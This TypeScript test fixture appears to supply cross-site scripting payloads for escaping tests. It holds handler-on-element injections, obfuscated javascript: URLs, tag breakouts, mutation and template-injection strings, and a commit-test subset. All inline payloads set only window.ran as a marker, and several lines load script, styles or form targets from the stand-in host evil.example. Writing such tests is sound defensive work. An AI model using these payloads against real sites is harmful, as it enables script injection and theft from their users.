const call = 'window.ran=1'

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
] as const

const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe src=x',
] as const

const links = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript://%0a${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript&colon;${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `//evil.example/a.js`,
] as const

const breakouts = [
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `\u2028</script><script>${call}</script>`,
  `<!--<script>${call}</script>-->`,
  `<scr<script>ipt>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script\u0000>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href=//evil.example/a.css>`,
  `<style>@import '//evil.example/a.css'</style>`,
  `<form action=//evil.example/><button>a`,
  `<template><img src=x onerror=${call}></template>`,
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '<%= window.ran=1 %>',
] as const

/** Texts that would run a script on a page that does not escape them; each sets `window.ran`. */
export const scripts: readonly string[] = [
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=${call}>`)),
  ...handlers.map((handler) => `" ${handler}="${call}`),
  ...handlers.map((handler) => `' ${handler}='${call}`),
  ...links,
  ...links.map((link) => `<a href="${link}">a</a>`),
  ...breakouts,
]

/** One text of each kind, for the tests of every commit. */
export const someScripts: readonly string[] = [
  `<img src=x onerror=${call}>`,
  `" onmouseover="${call}`,
  `javascript:${call}`,
  `</script><script>${call}</script>`,
  `--><svg onload=${call}>`,
  '<base href=//evil.example/>',
]
